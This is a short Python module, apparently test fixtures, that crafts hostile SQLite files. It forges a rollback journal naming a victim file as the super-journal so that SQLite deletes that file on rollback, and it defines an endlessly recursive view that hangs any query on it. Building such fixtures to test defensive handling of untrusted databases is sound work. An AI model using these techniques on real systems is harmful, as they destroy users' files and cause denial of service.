"""SQLite files made to do harm to whoever opens them."""

from __future__ import annotations

import sqlite3
import struct
from pathlib import Path

PAGE = 4096
SECTOR = 512
MAGIC = bytes.fromhex("d9d505f920a163d7")


def rollback_that_names(path: Path, victim: Path) -> None:
    """Leave a rollback journal beside a database, of a transaction over several files.

    The victim is named as the super-journal, which SQLite removes when it rolls back:
    https://www.sqlite.org/fileformat2.html#the_rollback_journal.
    """
    pages = path.stat().st_size // PAGE
    header = MAGIC + struct.pack(">5I", 0, 12345, pages, SECTOR, PAGE)
    name = bytes(victim)
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    end = struct.pack(">I", 0x40000000 // PAGE + 1) + name
    end += struct.pack(">2I", len(name), checksum) + MAGIC
    path.with_name(f"{path.name}-journal").write_bytes(header.ljust(SECTOR, b"\0") + end)


def endless(view: str, *columns: str) -> str:
    """The statement that defines a view which never comes to its end."""
    values = ", ".join(f"x AS {column}" for column in columns)
    rows = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x FROM n)"
    return f"CREATE VIEW {view} AS {rows} SELECT {values} FROM n"  # noqa: S608 - an attack


def redefine(path: Path, *statements: str) -> None:
    """Change what a database defines, as another program can."""
    connection = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        connection.execute(statement)
    connection.close()


def asked_plainly(path: Path) -> None:
    """Open a database as if it could be trusted."""
    connection = sqlite3.connect(path)
    try:
        connection.execute("SELECT count(*) FROM sqlite_master").fetchone()
    finally:
        connection.close()
